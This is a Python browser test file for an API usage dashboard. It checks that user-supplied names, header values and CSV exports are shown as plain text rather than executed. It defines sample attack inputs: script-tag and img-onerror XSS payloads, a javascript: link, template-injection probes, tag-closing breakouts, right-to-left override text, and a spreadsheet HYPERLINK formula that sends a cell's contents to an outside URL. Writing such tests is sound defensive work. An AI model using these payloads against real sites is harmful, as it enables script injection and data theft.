"""Text of strangers is only ever text, on every page: markup, formulas, turned around, or very long."""

import csv
import io
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from api_service.dashboard.navigation import Page as Entry
from tests.browser.pages import pages_made
from tests.browser.site import Person, Site
from tests.browser.tour import Tour, touring
from tests.system.calls import MESSAGES, call, message

SCRIPT = "<script>window.wasRun = 'script'</script>"
IMAGE = '"><img src=x onerror="window.wasRun=\'image\'">'
LINK = "javascript:window.wasRun='link'"
TEMPLATE = "{{ 7 * 7 }}${7 * 7}<%= 7 * 7 %>"
FORMULA = '=HYPERLINK("http://example.com/?"&A1;"Sum")'
TURNED = "\u202ekcits\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"
LONG = "W" * 10_000
HEADERS = {
    "Team": SCRIPT,
    "App": IMAGE,
    "Feature": FORMULA,
    "Customer-Tier": TURNED,
    "Session-ID": "</textarea></title></style>" + SCRIPT,
    "Trace-ID": LINK,
    "Prompt-Template": TEMPLATE,
}
OF_ACCOUNTS = [each for each in pages_made() if not each.is_open and "<" not in each.path]


@pytest.fixture(scope="module")
def mallory(site: Site) -> Person:
    """Somebody whose every name, and every tag of whose calls, is an attack."""
    person = site.sign_up(account_name=IMAGE)
    person.tell("PATCH", "/v1/person", {"name": SCRIPT})
    person.tell("POST", "/v1/keys", {"name": IMAGE, "scopes": ["proxy"], "team": SCRIPT, "app": TEMPLATE})
    person.tell("POST", "/v1/budgets", {"name": SCRIPT, "limit_usd": "0.000001", "action": "warn"})
    person.tell("POST", "/v1/budgets", {"name": IMAGE, "limit_usd": "9", "scope": {"team": IMAGE}})
    rule = {"provider": "anthropic", "from_models": ["claude-opus-4-6"], "to_model": "claude-haiku-4-5"}
    person.tell("POST", "/v1/routing-rules", {"name": SCRIPT, "threshold": 90, **rule})
    person.tell("POST", "/v1/webhooks", {"name": SCRIPT, "url": f"http://127.0.0.1:9/{'a' * 200}"})
    tenant = site.tenant(person)
    told = [HEADERS, {"Team": LONG, "Feature": LONG}, dict.fromkeys(HEADERS, IMAGE)]
    for tags in told:
        headers = {f"X-ModelTrack-{name}": text.encode().decode("latin-1") for name, text in tags.items()}
        own = {"x-api-key": tenant.provider_key, "anthropic-version": "2023-06-01", **tenant.headers}
        assert call(site.proxy_url, MESSAGES, message(str(tags)[:9]), {**own, **headers}).status == 200
    site.deployment.events(tenant, len(told))
    return person


@pytest.fixture(scope="module")
def tour(chromium: Browser, mallory: Person) -> Iterator[Tour]:
    """Their window."""
    with touring(chromium, mallory.url, mallory) as tour:
        yield tour


def was_run(page: Page) -> object:
    return page.evaluate("() => window.wasRun ?? null")


@pytest.mark.battery("I3")
@pytest.mark.parametrize("entry", OF_ACCOUNTS, ids=lambda entry: entry.name)
def test_it_is_shown_as_text(tour: Tour, entry: Entry) -> None:
    visit = tour.visit(entry.name, entry.path)

    assert visit.response.status == 200
    assert visit.complaints == []
    assert was_run(visit.page) is None
    assert visit.page.locator("img[src=x], main script, main style").count() == 0
    assert visit.page.locator("a[href^='javascript:'], [onerror], [onload]").count() == 0
    assert "\u202e" not in visit.page.content()
    assert visit.page.evaluate("() => document.documentElement.scrollWidth") <= 1280


def test_it_is_there_to_be_read(tour: Tour) -> None:
    page = tour.visit("overview", "/overview?range=7d").page

    expect(page.get_by_role("rowheader", name=SCRIPT)).to_be_visible()
    expect(page.get_by_role("rowheader", name=IMAGE)).to_be_visible()
    page.get_by_role("link", name=IMAGE).first.click()
    page.wait_for_load_state("networkidle")
    expect(page.get_by_text(IMAGE).first).to_be_visible()
    assert was_run(page) is None


@pytest.mark.battery("I3")
def test_no_cell_of_a_file_begins_a_formula(site: Site, mallory: Person) -> None:
    answer = mallory.session.get(f"{site.url}/v1/stats/features?format=csv", timeout=20)

    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
